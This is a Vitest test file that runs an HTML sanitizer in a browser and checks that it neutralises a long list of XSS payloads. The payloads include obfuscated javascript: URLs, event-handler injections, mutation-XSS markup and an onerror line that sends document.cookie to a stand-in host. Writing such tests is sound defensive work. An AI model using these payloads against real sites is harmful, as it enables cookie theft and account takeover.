// @vitest-environment node
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isSafeHref, isSafeImageSrc } from '#widgets/rich-content/sanitize.js';
import { ORIGIN, openSanitizerPage, sanitizeIn, type SanitizedReport } from './in-browser.js';
import { ONE_PIXEL_PNG_DATA_URL } from '../../../fixtures/images.js';

let browser: Browser;
let page: Page;

beforeAll(async () => {
  ({ browser, page } = await openSanitizerPage());
}, 30_000);
afterAll(async () => {
  await browser?.close();
});

const render = (html: string | null) => sanitizeIn(page, html);
const attr = (report: SanitizedReport, tag: string, name: string, index = 0): string | null => {
  const el = report.elements.filter((e) => e.tag === tag)[index];
  if (!el) throw new Error(`no <${tag}> #${index} in ${report.html}`);
  return el.attrs.find(([n]) => n === name)?.[1] ?? null;
};
const tags = (report: SanitizedReport, tag: string) => report.elements.filter((e) => e.tag === tag);

const FORBIDDEN = [
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'form',
  'svg',
  'math',
  'link',
  'meta',
  'base',
  'template',
  'input',
  'button',
  'source',
  'video',
  'details',
];

/** Nothing executable may survive: no handler attributes, no script-capable elements, no script URLs. */
function expectInert(report: SanitizedReport) {
  for (const el of report.elements) {
    expect(FORBIDDEN, report.html).not.toContain(el.tag);
    for (const [name, value] of el.attrs) {
      expect(name.startsWith('on'), `${el.tag} ${name} in ${report.html}`).toBe(false);
      expect(['style', 'srcdoc', 'formaction', 'action', 'id', 'name']).not.toContain(name);
      const compact = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      expect(compact.startsWith('javascript:'), `${el.tag} ${name}=${value}`).toBe(false);
      expect(compact.startsWith('vbscript:')).toBe(false);
    }
  }
}

describe('sanitizeHtml: XSS payloads', () => {
  const payloads: Array<[string, string]> = [
    ['onerror on an image', '<img src=x onerror=alert(1)>'],
    ['onerror on a valid image', '<img src="/a.png" onerror="alert(1)">'],
    ['onload on body-like markup', '<body onload=alert(1)><p>hi</p></body>'],
    ['javascript: href', '<a href="javascript:alert(1)">x</a>'],
    ['javascript: with leading spaces', '<a href="   javascript:alert(1)">x</a>'],
    ['javascript: with a tab inside', '<a href="java\tscript:alert(1)">x</a>'],
    ['javascript: with a newline inside', '<a href="java\nscript:alert(1)">x</a>'],
    [
      'javascript: as decimal entities',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ],
    ['javascript: as hex entities', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
    ['javascript: in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['javascript: after a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
    ['javascript: in an image src', '<img src="javascript:alert(1)">'],
    ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
    ['svg onload', '<svg onload=alert(1)><circle r="4"/></svg>'],
    ['script inside svg', '<svg><script>alert(1)</script></svg>'],
    [
      'math namespace confusion',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ],
    ['style element', '<style>body{display:none}</style><p>text</p>'],
    ['style attribute', '<p style="position:fixed;inset:0;background:red">cover</p>'],
    ['iframe', '<iframe src="https://evil.example/"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object', '<object data="https://evil.example/x.swf"></object>'],
    ['embed', '<embed src="https://evil.example/x.swf">'],
    [
      'form with formaction',
      '<form action="https://evil.example/"><button formaction="javascript:alert(1)">go</button><input autofocus onfocus=alert(1)></form>',
    ],
    ['nested script split', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['base href', '<base href="javascript:alert(1)//"><a href="/x">x</a>'],
    ['template', '<template><img src=x onerror=alert(1)></template>'],
    ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary></details>'],
    ['video source onerror', '<video><source onerror="alert(1)"></video>'],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['data: html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['data: html image', '<img src="data:text/html,<script>alert(1)</script>">'],
    ['event handler in uppercase', '<IMG SRC="/a.png" ONERROR="alert(1)">'],
    ['handler without quotes after slash', '<img/src="/a.png"/onerror=alert(1)>'],
    [
      'seeded course markup',
      '<p><img src="/images/x.svg" alt="x" onerror="this.src=\'https://t.example/p.gif?c=\'+document.cookie"></p><a href="javascript:alert(\'x\')">领取</a><script>window._hmt=1</script>',
    ],
  ];

  for (const [name, html] of payloads) {
    it(`neutralises ${name}`, async () => {
      expectInert(await render(html));
    });
  }

  it('drops the href of script links but keeps their text', async () => {
    const r = await render('<a href="javascript:alert(1)">点击领取优惠券</a>');
    expect(attr(r, 'a', 'href')).toBeNull();
    expect(tags(r, 'a')[0].text).toBe('点击领取优惠券');
  });

  it('removes images whose source is not http(s), same-origin or an inline raster image', async () => {
    for (const src of [
      'x',
      '//evil.example/x.png',
      '/\\evil.example/x.png',
      'data:image/svg+xml;base64,PHN2Zz4=',
      'mailto:a@b.c',
      'ftp://files.example/x.png',
      'javascript:alert(1)',
    ]) {
      const r = await render(`<p>a<img src="${src}" alt="x">b</p>`);
      expect(tags(r, 'img'), src).toEqual([]);
      expect(r.text).toBe('ab');
    }
  });

  it('keeps http(s), same-origin and raster data images, lazily loaded', async () => {
    const r = await render(
      `<img src="https://cdn.example/a.png" alt="a"><img src="/images/b.svg" alt="b"><img src="${ONE_PIXEL_PNG_DATA_URL}" alt="c">`,
    );
    expect(tags(r, 'img').map((_, i) => attr(r, 'img', 'src', i))).toEqual([
      'https://cdn.example/a.png',
      '/images/b.svg',
      ONE_PIXEL_PNG_DATA_URL,
    ]);
    expect(tags(r, 'img').map((_, i) => attr(r, 'img', 'loading', i))).toEqual(['lazy', 'lazy', 'lazy']);
  });

  it('gives an image without alt an empty alt', async () => {
    expect(attr(await render('<img src="/a.png">'), 'img', 'alt')).toBe('');
  });

  it('keeps http(s), mailto, same-origin and anchor links; drops others', async () => {
    const href = async (value: string) => attr(await render(`<a href="${value}">x</a>`), 'a', 'href');
    expect(await href('https://example.com/x')).toBe('https://example.com/x');
    expect(await href('http://example.com/x')).toBe('http://example.com/x');
    expect(await href('mailto:hi@example.com')).toBe('mailto:hi@example.com');
    expect(await href('/vip')).toBe('/vip');
    expect(await href('#part-2')).toBe('#part-2');
    for (const bad of [
      '//evil.example/',
      '/\\evil.example/',
      '/\t/evil.example/',
      'file:///etc/passwd',
      'tel:10086',
      'relative/path',
      'data:text/html,x',
    ]) {
      expect(await href(bad), bad).toBeNull();
    }
  });

  it('opens external links in a new tab without opener or referrer; same-origin links stay', async () => {
    const r = await render(
      `<a href="https://other.example/" target="_self">ext</a><a href="/vip" target="_blank">in</a><a href="${ORIGIN}/courses">abs</a>`,
    );
    expect(attr(r, 'a', 'target', 0)).toBe('_blank');
    expect(attr(r, 'a', 'rel', 0)).toBe('noopener noreferrer');
    expect(attr(r, 'a', 'target', 1)).toBeNull();
    expect(attr(r, 'a', 'rel', 1)).toBeNull();
    expect(attr(r, 'a', 'target', 2)).toBeNull();
  });

  it('keeps only language classes on code and pre; other classes, ids and data attributes go', async () => {
    const r = await render(
      '<pre class="x"><code class="language-js hljs evil">let a</code></pre><p class="hidden" id="main" name="x" data-x="1" aria-hidden="true">t</p>',
    );
    expect(attr(r, 'code', 'class')).toBe('language-js');
    expect(attr(r, 'pre', 'class')).toBeNull();
    expect(tags(r, 'p')[0].attrs).toEqual([]);
  });

  it('keeps structure: headings, lists, tables, code, quotes, sizes', async () => {
    const r = await render(
      '<h2>标题</h2><ul><li>a</li></ul><table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table><pre><code>x &lt; y</code></pre><blockquote>q</blockquote><img src="/a.png" width="240" height="120" alt="a">',
    );
    expect(tags(r, 'h2')[0].text).toBe('标题');
    expect(tags(r, 'li')[0].text).toBe('a');
    expect(attr(r, 'th', 'colspan')).toBe('2');
    expect(attr(r, 'td', 'rowspan')).toBe('2');
    expect(tags(r, 'code')[0].text).toBe('x < y');
    expect(tags(r, 'blockquote')).toHaveLength(1);
    expect(attr(r, 'img', 'width')).toBe('240');
  });

  it('keeps the text of removed wrappers but not of script or style', async () => {
    const r = await render('<form><p>表单里的文字</p></form><script>secret()</script><style>.x{}</style>');
    expect(r.text).toBe('表单里的文字');
  });

  it('returns an empty fragment for null and empty input', async () => {
    expect((await render('')).html).toBe('');
    expect((await render(null)).html).toBe('');
  });
});

describe('isSafeHref / isSafeImageSrc', () => {
  it('judges addresses after removing whitespace and control characters', () => {
    expect(isSafeHref(' https://a.example/')).toBe(true);
    expect(isSafeHref('java\nscript:alert(1)')).toBe(false);
    expect(isSafeHref('/\n/evil.example')).toBe(false);
    expect(isSafeImageSrc(ONE_PIXEL_PNG_DATA_URL)).toBe(true);
    expect(isSafeImageSrc('data:image/jpeg;base64,AAAA')).toBe(true);
    expect(isSafeImageSrc('data:image/webp,AAAA')).toBe(true);
    expect(isSafeImageSrc('data:image/svg+xml,<svg/>')).toBe(false);
    expect(isSafeImageSrc('data:text/html,x')).toBe(false);
  });
});

describe('sanitizeSnippet', () => {
  const snippet = async (input: string) => (await sanitizeIn(page, input, 'snippet')).html;

  it('turns the engine highlight spans into bare marks', async () => {
    expect(await snippet('学习 <span style="color:red">Vue</span> 与 <em>React</em>')).toBe(
      '学习 <mark>Vue</mark> 与 <mark>React</mark>',
    );
  });

  it('keeps nothing but text and highlights', async () => {
    expect(
      await snippet(
        '<a href="/x">链接</a><img src=x onerror=alert(1)><b>粗</b><script>alert(1)</script>&lt;escaped&gt;',
      ),
    ).toBe('链接粗&lt;escaped&gt;');
  });

  it('drops attributes from the highlight markup', async () => {
    expect(await snippet('<mark onclick="alert(1)" class="x">k</mark>')).toBe('<mark>k</mark>');
  });
});
